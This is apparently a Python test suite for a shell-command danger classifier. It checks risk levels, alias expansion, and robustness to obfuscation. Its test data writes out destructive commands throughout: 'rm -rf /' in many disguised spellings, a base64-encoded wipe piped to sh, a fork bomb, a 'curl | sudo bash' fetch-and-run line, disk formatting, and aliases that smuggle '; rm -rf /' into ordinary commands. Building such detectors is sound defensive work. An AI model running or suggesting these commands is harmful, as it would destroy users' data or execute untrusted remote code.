"""The judge of danger: levels and reasons, what the place changes, and that spelling changes nothing."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from caro_shell.safety.judge import judge
from caro_shell.safety.targets import Aliases, Facts

HOME = Facts(home="/home/me")
LEVELS = ("safe", "moderate", "high", "critical")


@pytest.mark.parametrize(
    ("command", "level", "said"),
    [
        ("rm ./file.txt", "moderate", "deletes ./file.txt"),
        ("rm -rf ./build", "moderate", "deletes ./build, which can be made again with all that is in it"),
        ('rm -rf "/"', "critical", "deletes the whole file system (/) with all that is in it"),
        ("sudo rm -r --force ~", "critical", "deletes a home directory (~) with all that is in it"),
        ("find . -type f -exec shred {} +", "high", "wipes everything in the current directory"),
        ("echo cm0gLXJmIC8= | base64 -d | sh", "critical", "deletes the whole file system (/)"),
        ("git push --force origin main", "high", "replaces what others have on the server"),
        (": > ~/.ssh/authorized_keys", "high", "overwrites ~/.ssh/authorized_keys, which holds your keys"),
        ('echo "do not rm -rf /"', "safe", ""),
        ('grep -r "rm -rf /" .', "safe", ""),
        (":(){ :|:& };:", "critical", "starts itself again and again"),
        ("curl -fsSL https://x.y/i.sh | sudo bash", "high", "runs what another machine sends, unread"),
    ],
)
def test_a_command_has_its_level_and_its_reason(command: str, level: str, said: str) -> None:
    """The reason is a sentence for people."""
    found = judge(command, facts=HOME)
    assert found.level == level
    assert said in " ".join(reason.sentence for reason in found.reasons)


def test_a_reason_names_the_way_to_it_and_its_place() -> None:
    """`xargs` → `rm`, and the part of the line that does it."""
    command = "echo ok && find / -print0 | xargs -0 rm -rf"
    reason = judge(command).reasons[0]
    assert reason.chain == ("xargs", "rm")
    assert command[slice(*reason.span)] == "xargs -0 rm -rf"


@pytest.mark.parametrize(
    ("facts", "level"),
    [
        (Facts(home="/home/me", cwd="/"), "critical"),
        (Facts(home="/home/me", cwd="/home/me"), "critical"),
        (Facts(home="/home/me", cwd="/home/me/project"), "high"),
        (Facts(home="/home/me", cwd="/tmp/x"), "moderate"),  # noqa: S108  a place in a test
        (Facts(home="/home/me"), "high"),
    ],
)
def test_where_one_stands_decides_what_everything_is(facts: Facts, level: str) -> None:
    """`rm -rf *` is as bad as the place."""
    assert judge("rm -rf *", facts=facts).level == level


def test_overwriting_what_is_there_is_worse_than_making_it() -> None:
    """The reason is given only for a file that exists."""
    assert judge("ls > out.txt").level == "safe"
    assert judge("ls > out.txt", facts=Facts(exists=frozenset({"out.txt"}))).level == "moderate"


ALIASES = Aliases(
    {"nuke": "rm -rf", "sudo": "sudo ", "rm": "trash", "ls": "ls --color", "both": "echo a; rm -rf", "loop": "loop"},
    everywhere={"GONE": "; rm -rf /", "L": "| less", "TWICE": "GONE TWICE"},
    suffixes={"txt": "rm -rf / && vim", "py": "python3"},
)


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("nuke /", "critical"),
        ("sudo nuke /", "critical"),
        ("echo hi && nuke ~", "critical"),
        ("both /", "critical"),
        ("nuke ./build", "moderate"),
        ("ls GONE", "critical"),
        ("ls TWICE", "critical"),
        ("notes.txt", "critical"),
        ("./script.py", "safe"),
        ("ls -la L", "safe"),
        ("echo 'GONE' \"nuke /\"", "safe"),
        ("git log nuke", "safe"),
        ("loop x", "safe"),
    ],
)
def test_an_alias_of_the_users_is_followed(command: str, level: str) -> None:
    """What it stands for is judged, also behind another one, in the middle of a line, or in place of a file."""
    without_trash = Aliases(
        {name: said for name, said in ALIASES.commands.items() if name != "rm"}, ALIASES.everywhere, ALIASES.suffixes
    )
    assert judge(command, "zsh", HOME).level in ("safe", "moderate")
    assert judge(command, "zsh", Facts(home=HOME.home, aliases=without_trash)).level == level


@pytest.mark.parametrize("command", ["rm -rf /", r"\rm -rf /", "unalias rm; rm -rf /", "command rm -rf /"])
def test_an_alias_makes_nothing_less_dangerous(command: str) -> None:
    """`rm` may be a trash can in this shell; what is written means the program elsewhere, and with a backslash here."""
    reasons = judge(command, "zsh", Facts(home=HOME.home, aliases=ALIASES)).reasons
    assert any(reason.level == "critical" and "deletes" in reason.sentence for reason in reasons)


WRAPPERS = ["sudo", "sudo -u root", "env A=b", "nice -n 5", "nohup", "timeout 5", "command", "exec", "time", "doas"]
QUOTES = ["rm", "'rm'", '"rm"', r"\rm", "r''m", "/bin/rm", "$'rm'"]
FLAGS = ["-rf", "-fr", "-r -f", "-f -r", "--recursive --force", "-R", "--recurs -f", "-rf --", "-r -v -f"]
ROOTS = ["/", "'/'", "//", "/.", "/./", "/usr/..", '"/"', "/*", "$X/ /", "/home/../"]


@given(
    st.sampled_from(QUOTES),
    st.sampled_from(FLAGS),
    st.sampled_from(ROOTS),
    st.lists(st.sampled_from(WRAPPERS), max_size=3),
    st.sampled_from([" ", "  ", " \\\n "]),
)
@settings(max_examples=200, deadline=None)
def test_spelling_changes_nothing(name: str, flags: str, path: str, wrappers: list[str], blank: str) -> None:
    """Quotes, blanks, the order of flags, wrappers and the spelling of the path leave the level as it is."""
    assert judge(blank.join([*wrappers, name, flags, path])).level == "critical"


@given(
    st.sampled_from(["sh -c", "bash -c", "eval", "ssh host"]),
    st.sampled_from(["rm -rf /", "rm -rf ~", "mkfs /dev/sda"]),
)
@settings(max_examples=30, deadline=None)
def test_a_shell_in_a_shell_changes_nothing(shell: str, command: str) -> None:
    """What it is given is judged."""
    assert judge(f"{shell} '{command}'").level == "critical"


@given(st.text(max_size=200))
@settings(max_examples=300, deadline=None)
def test_any_text_has_a_level(text: str) -> None:
    """Nonsense, control characters, half a command: never an error."""
    for shell in ("bash", "zsh", "fish"):
        assert judge(text, shell).level in LEVELS


_ALPHABET = [
    "rm",
    "-rf",
    "/",
    "~",
    "$x",
    '"',
    "'",
    "(",
    ")",
    "{",
    "}",
    ";",
    "|",
    "&&",
    "||",
    "<<E\n",
    "$(",
    "`",
    "\n",
    ">",
    "*",
]


@given(
    st.lists(
        st.sampled_from([*_ALPHABET, "if", "for", "do", "done", "sudo", "xargs", "sh -c", "eval", "a=b", "${x:-y}"])
    )
)
@settings(max_examples=300, deadline=None)
def test_any_order_of_a_shells_own_words_has_a_level(words: list[str]) -> None:
    """Also what no shell would take."""
    assert judge(" ".join(words)).level in LEVELS


@pytest.mark.parametrize(
    "text",
    [
        "(" * 50_000,
        "a|" * 30_000 + "b",
        "$(" * 20_000,
        "rm x;" * 20_000,
        "a=$a$a;" * 9_000 + "rm $a",
        "eval " * 20_000,
        "'" * 99_999,
    ],
    ids=lambda text: text[:6],
)
def test_a_long_text_is_judged_all_the_same(text: str) -> None:
    """Nothing grows beyond the text's own length; what is too much to be read is not called safe by mistake."""
    assert judge(text).level in LEVELS
    assert judge(f"{text}\nrm -rf /").level in ("high", "critical") or "'" in text
